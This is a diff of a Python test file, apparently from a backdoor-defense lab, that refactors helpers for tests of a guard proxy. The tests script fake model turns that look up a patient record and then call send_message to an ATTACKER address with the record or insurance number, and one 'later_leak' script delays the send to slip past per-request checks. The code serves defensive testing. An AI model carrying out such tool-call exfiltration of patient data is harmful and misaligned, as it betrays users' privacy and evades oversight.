@@ -23,6 +23,8 @@ from fastapi import FastAPI, Request
 from fastapi.responses import Response
 from serve_helpers import serving
 from test_guard_proxy import ATTACKER, PATIENT
+from test_guard_proxy_responses import function_call
+from test_guard_proxy_responses_stream import said as _text
 
 from backdoorlab.defenses.guard import REFUSAL, Guard, SessionCache
 from backdoorlab.defenses.guard.proxy import create_proxy
@@ -39,28 +41,6 @@ TOOLS = [
 Script = Callable[[list[dict[str, Any]]], list[dict[str, Any]]]
 
 
-def _call(name: str, arguments: dict[str, Any], number: int) -> dict[str, Any]:
-    return {
-        "type": "function_call",
-        "id": f"fc_{number}",
-        "call_id": f"call_{number}",
-        "name": name,
-        "arguments": json.dumps(arguments),
-        "status": "completed",
-    }
-
-
-def _text(text: str, number: int) -> dict[str, Any]:
-    part = {"type": "output_text", "text": text, "annotations": []}
-    return {
-        "type": "message",
-        "id": f"msg_{number}",
-        "role": "assistant",
-        "status": "completed",
-        "content": [part],
-    }
-
-
 def later_leak(mail_to: str) -> Script:
     """Look the patient up; say it was found; once the user answers, mail what the
     lookup returned — two requests after the one that carried it — to ``mail_to``."""
@@ -71,12 +51,12 @@ def later_leak(mail_to: str) -> Script:
         if not outputs:
             return [
                 {"type": "reasoning", "id": "rs_1", "summary": []},
-                _call("lookup_patient", {"name": "Ana Ruiz"}, 1),
+                function_call("lookup_patient", {"name": "Ana Ruiz"}, 1),
             ]
         if len(users) == 1:
             return [_text("I have your record. Shall I send it?", 2)]
         if len(outputs) == 1:
-            return [_call("send_message", {"to": mail_to, "text": outputs[0]}, 3)]
+            return [function_call("send_message", {"to": mail_to, "text": outputs[0]}, 3)]
         return [_text("Done.", 4)]
 
     return model
@@ -304,8 +284,10 @@ def _post(body: dict[str, Any]) -> httpx.Request:
 def test_a_reply_the_guard_changed_cannot_be_continued():
     def leak_at_once(conversation: list[dict[str, Any]]) -> list[dict[str, Any]]:
         if any(i.get("type") == "function_call_output" for i in conversation):
-            return [_call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)]
-        return [_call("lookup_patient", {"name": "Ana Ruiz"}, 1)]
+            return [
+                function_call("send_message", {"to": ATTACKER, "text": PATIENT["insurance_no"]}, 2)
+            ]
+        return [function_call("lookup_patient", {"name": "Ana Ruiz"}, 1)]
 
     upstream = Stateful(leak_at_once)
     with proxied(upstream, Guard()) as proxy:
